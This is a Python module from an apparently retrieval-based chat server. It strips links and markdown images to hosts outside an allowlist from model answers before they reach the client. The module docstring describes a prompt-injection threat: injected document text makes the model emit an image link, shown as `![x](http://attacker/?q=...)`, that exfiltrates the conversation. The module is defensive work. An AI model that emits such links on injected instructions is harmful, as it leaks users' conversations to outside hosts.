"""Answers quote documents, and documents are untrusted: an injected instruction can make the
model write a link or a markdown image that leaks the conversation to another host when a client
renders it (`![x](http://attacker/?q=...)`). Before an answer leaves the server, every link and
image whose host is not in `answer_link_hosts` (https only; none by default) is reduced to its
text. The web page applies the same rule to the streamed raw text (`server/static/chat.js`)."""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

# [label](target) and ![alt](target), with an optional "title".
_MARKDOWN_LINK = re.compile(
    r"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s()<>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)"
)
# Bare URLs, `www.` hosts, and protocol-relative targets of HTML attributes (src=//host/...).
_BARE_URL = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]*://|\bwww\.|(?<=[=(\"'])//)[^\s<>()\[\]\"']+", re.IGNORECASE
)
LINK_REMOVED = "[link removed]"


def allowed_url(url: str, hosts: Iterable[str]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    allowed = {h.lower() for h in hosts}
    return parts.scheme == "https" and (parts.hostname or "") in allowed


def neutralize_links(text: str, hosts: Iterable[str] = ()) -> str:
    """`text` with links and images to hosts outside `hosts` replaced by their label (or a
    note): no URL of another host is left for a client to fetch or a reader to click."""
    hosts = list(hosts)

    def markdown(match: re.Match[str]) -> str:
        image, label, target = match.group(1), match.group(2).strip(), match.group(3)
        if allowed_url(target, hosts):
            return match.group(0)
        label = _BARE_URL.sub(LINK_REMOVED, label)
        if image:
            return f"[image: {label}]" if label else "[image removed]"
        return label or LINK_REMOVED

    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        return url if allowed_url(url, hosts) else LINK_REMOVED

    text = _MARKDOWN_LINK.sub(markdown, text)
    # Bare URLs outside kept markdown links.
    out, last = [], 0
    for kept in _MARKDOWN_LINK.finditer(text):
        out.append(_BARE_URL.sub(bare, text[last : kept.start()]))
        out.append(kept.group(0))
        last = kept.end()
    out.append(_BARE_URL.sub(bare, text[last:]))
    return "".join(out)
